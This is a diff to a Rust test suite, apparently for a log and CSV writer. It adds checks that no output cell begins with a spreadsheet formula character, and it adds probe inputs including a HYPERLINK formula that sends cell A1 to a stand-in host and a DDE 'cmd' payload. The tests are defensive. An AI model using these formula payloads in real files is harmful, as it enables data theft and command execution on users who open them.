@@ -296,13 +296,17 @@ def each(parse, items):
 mode, path = sys.argv[1], sys.argv[2]
 data = open(path, "rb").read().decode("utf-8")
 lines = data.splitlines()
+formula = 0
 if mode == "csv":
-    rows = each(csv_row, csv.reader(io.StringIO(data, newline=""), strict=True))
+    raw = list(csv.reader(io.StringIO(data, newline=""), strict=True))
+    # Cells a spreadsheet would run as a formula.
+    formula = sum(1 for r in raw for c in r if c[:1] in ("=", "+", "-", "@"))
+    rows = each(csv_row, raw)
 else:
     parse = {"json": json.loads, "text": text, "template": template,
              "rfc5424": rfc5424, "rfc3164": rfc3164}[mode]
     rows = each(parse, lines)
-print(json.dumps({"lines": len(lines), "rows": rows}))
+print(json.dumps({"lines": len(lines), "rows": rows, "formula": formula}))
 "#;
 
 /// The file at `path`, for an assertion's message.
@@ -333,6 +337,12 @@ fn read_back(mode: &str, path: &Path) -> (u64, Vec<Value>) {
         assert_eq!(bidi, None, "{mode}: a raw bidirectional control\n{data}");
     }
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        v["formula"],
+        0,
+        "{mode}: a cell a spreadsheet reads as a formula\n{}",
+        show(path)
+    );
     let rows = v["rows"].as_array().unwrap().clone();
     (v["lines"].as_u64().unwrap(), rows)
 }
@@ -700,6 +710,13 @@ fn nasty() -> Vec<Probe> {
             b"\t",
         ),
         ("é\u{a0}\u{1F600}中".as_bytes(), "é".as_bytes()),
+        // Formulas, as a spreadsheet would run them from a CSV cell.
+        (
+            &b"=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"[..],
+            &b"@"[..],
+        ),
+        (b"+1+cmd|' /C calc'!A0", b"-"),
+        (b"-2+3", b"=1"),
         // Bidirectional controls: a file name that displays as
         // "adminexe.txt", an isolate run, the marks.
         (
@@ -761,7 +778,7 @@ fn hostile(max: usize) -> impl Strategy<Value = Vec<u8>> {
         3 => prop::sample::select(vec![
             "\n", "\r", "\r\n", "\x1b[2J", "\x01", "\x00", "\"", "]", "\\", "\\x0a", ",", " ",
             "=", "\u{7f}", "\u{85}", "\u{9f}", "\u{2028}", "\u{2029}", "\u{feff}", "é",
-            "\u{202e}", "\u{2067}", "\u{200e}",
+            "\u{202e}", "\u{2067}", "\u{200e}", "=", "+", "-", "@",
             "\u{1F600}", "<134>1 ",
         ])
         .prop_map(|s| s.as_bytes().to_vec()),
